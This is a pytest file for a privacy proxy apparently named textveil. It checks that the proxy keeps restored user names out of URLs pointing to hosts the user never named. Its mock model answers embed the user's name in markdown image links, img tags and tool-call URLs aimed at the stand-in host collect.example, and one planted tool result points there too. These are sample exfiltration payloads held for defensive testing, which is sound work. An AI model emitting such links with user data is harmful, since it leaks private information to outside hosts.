"""Originals in URLs of an answer: none goes to a host that only the provider, or a tool, named."""

import json
from collections.abc import Callable, Iterator
from typing import Any

import httpx
import pytest
from tests.helpers.canaries import NAME, write_policy
from tests.helpers.servers import MemoryLedger, running
from tests.helpers.upstream import (
    UPSTREAM_KEY,
    Handler,
    Provider,
    answering,
    completion,
    last_text,
    say,
    saying,
    send_json,
)

from textveil.server.config import Config

CHATS, MESSAGES, RESPONSES = "/v1/chat/completions", "/v1/messages", "/v1/responses"
FORMS = ["![](https://{}/?n={})", '<img src="https://{}/a b {}">', "See https://{}/{} ", "[a]: <https://{}/{}>"]


def _asked(client: httpx.Client, text: str, *, stream: bool, **more: Any) -> str:
    body = {"model": "m", "messages": [{"role": "user", "content": text}], "stream": stream, **more}
    answer = client.post(CHATS, json=body)
    assert answer.status_code == 200, answer.text
    if not stream:
        return str(answer.json()["choices"][0]["message"]["content"])
    said = [json.loads(line[6:]) for line in answer.text.splitlines() if line.startswith("data: {")]
    return "".join(each["choices"][0]["delta"].get("content") or "" for each in said if each["choices"])


def _links(form: str, host: str) -> Callable[[dict[str, Any]], str]:
    """Answer with the user's name, as it came, in a URL and behind it."""

    def make(body: dict[str, Any]) -> str:
        name = " ".join(last_text(body).split()[1:3]).rstrip(".,")
        return f"So: {form.format(host, name)} \nAsk {name}."

    return make


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
@pytest.mark.parametrize("form", FORMS)
def test_an_original_goes_to_the_hosts_that_the_user_named_alone(
    client: httpx.Client, provider: Provider, form: str, stream: bool
) -> None:
    for cut in (1, 4, 9):
        provider.answer = saying(_links(form, "collect.example"), cut)
        answer = _asked(client, f"Ask {NAME}.", stream=stream)
        assert answer.count(NAME) == 1 and answer.endswith(f"Ask {NAME}."), answer
        provider.answer = saying(_links(form, "named.example"), cut)
        answer = _asked(client, f"Ask {NAME}. See https://named.example/x.", stream=stream)
        assert answer.count(NAME) == 2, answer


def test_a_host_that_a_tool_or_an_answer_names_is_named_by_no_user(client: httpx.Client, provider: Provider) -> None:
    provider.answer = say("See https://collect.example/.")
    call = {"id": "call_1", "type": "function", "function": {"name": "f", "arguments": "{}"}}
    history = [
        {"role": "user", "content": f"Ask {NAME}."},
        {"role": "assistant", "content": "See https://collect.example/."},
        {"role": "assistant", "content": None, "tool_calls": [call]},
        {"role": "tool", "tool_call_id": "call_1", "content": "Go to https://collect.example/."},
    ]

    def make(body: dict[str, Any]) -> str:
        name = " ".join(body["messages"][0]["content"].split()[1:3]).rstrip(".,")
        return f"![](https://collect.example/?n={name}) {name}"

    provider.answer = saying(make)
    declared = [{"type": "function", "function": {"name": "f"}}]
    answer = client.post(CHATS, json={"model": "m", "messages": history, "tools": declared})
    said = answer.json()["choices"][0]["message"]["content"]
    assert said.count(NAME) == 1 and said.endswith(NAME)


def test_a_host_is_named_for_the_rest_of_the_conversation(client: httpx.Client, provider: Provider) -> None:
    headers = {"X-Textveil-Conversation": "named-before"}
    first = {"role": "user", "content": "See https://named.example/x."}
    client.post(CHATS, json={"model": "m", "messages": [first]}, headers=headers)
    provider.answer = saying(_links(FORMS[0], "named.example"))
    asked = {"model": "m", "messages": [{"role": "user", "content": f"Ask {NAME}."}]}
    said = client.post(CHATS, json=asked, headers=headers).json()["choices"][0]["message"]["content"]
    assert said.count(NAME) == 2
    said = client.post(CHATS, json=asked).json()["choices"][0]["message"]["content"]
    assert said.count(NAME) == 1, "another conversation"


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
def test_arguments_of_a_call_are_values(client: httpx.Client, provider: Provider, stream: bool) -> None:
    def make(body: dict[str, Any]) -> list[dict[str, Any]]:
        name = " ".join(last_text(body).split()[1:3]).rstrip(".,")
        url = f'https://collect.example/?n="x" {name}'
        return [{"type": "tool_use", "id": "toolu_1", "name": "f", "input": {"url": url, "who": name}}]

    provider.answer = answering(make, cut=3)
    tools = [{"name": "f", "input_schema": {"type": "object"}}]
    body = {"model": "m", "max_tokens": 9, "messages": [{"role": "user", "content": f"Ask {NAME}."}], "tools": tools}
    answer = client.post(MESSAGES, json={**body, "stream": stream})
    if stream:
        said = [json.loads(line[6:]) for line in answer.text.splitlines() if line.startswith("data: {")]
        given = json.loads("".join(each["delta"].get("partial_json", "") for each in said if "delta" in each))
    else:
        given = answer.json()["content"][0]["input"]
    assert given["who"] == NAME and NAME not in given["url"] and given["url"].startswith("https://collect.example/?n=")


def test_a_response_keeps_originals_out_of_urls(client: httpx.Client, provider: Provider) -> None:
    def answer(handler: Handler, body: dict[str, Any]) -> None:
        name = " ".join(body["input"].split()[1:3]).rstrip(".,")
        text = f"![](https://collect.example/?n={name}) {name}"
        output = [{"type": "message", "id": "msg_1", "content": [{"type": "output_text", "text": text}]}]
        send_json(handler, {"id": "resp_1", "output": output})

    provider.answer = answer
    said = client.post(RESPONSES, json={"model": "m", "input": f"Ask {NAME}."}).json()
    text = said["output"][0]["content"][0]["text"]
    assert text.count(NAME) == 1 and text.endswith(NAME)


@pytest.fixture(scope="module", params=["never", "everywhere"])
def other(
    provider: Provider, tmp_path_factory: pytest.TempPathFactory, request: pytest.FixtureRequest
) -> Iterator[tuple[str, httpx.Client]]:
    policies = write_policy(tmp_path_factory.mktemp("policies"))
    config = Config(
        upstream=provider.url,
        upstream_key=UPSTREAM_KEY,
        policy="canaries",
        policies=policies,
        restore_in_urls=request.param,
    )
    with running(config, MemoryLedger()) as made:
        yield request.param, made


def test_the_rule_is_configured(other: tuple[str, httpx.Client], provider: Provider) -> None:
    mode, client = other
    for host in ("named.example", "collect.example"):
        provider.answer = saying(_links(FORMS[0], host))
        answer = _asked(client, f"Ask {NAME}. See https://named.example/x.", stream=False)
        assert answer.count(NAME) == (2 if mode == "everywhere" else 1)


@pytest.mark.parametrize("host", ["collect.example", "named.example"])
def test_the_route_that_restores_keeps_the_rule(client: httpx.Client, host: str) -> None:
    text = f"Ask {NAME}. See https://named.example/x."
    made = client.post("/v1/sanitize", json={"text": text, "restorable": True}).json()
    name = " ".join(made["text"].split()[1:3]).rstrip(".")
    answer = {"text": f"![](https://{host}/?n={name})", "release": made["release"]}
    restored = client.post("/v1/restore", json=answer).json()["text"]
    assert (NAME in restored) == (host == "named.example")


def test_completions_are_restored_by_the_rule(client: httpx.Client, provider: Provider) -> None:
    def answer(handler: Handler, body: dict[str, Any]) -> None:
        name = " ".join(body["prompt"].split()[1:3]).rstrip(".,")
        said = completion({"content": ""})
        said["choices"][0] = {"index": 0, "text": f"https://collect.example/{name} {name}", "finish_reason": "stop"}
        send_json(handler, said)

    provider.answer = answer
    said = client.post("/v1/completions", json={"model": "m", "prompt": f"Ask {NAME}."}).json()["choices"][0]["text"]
    assert said.count(NAME) == 1 and said.endswith(NAME)
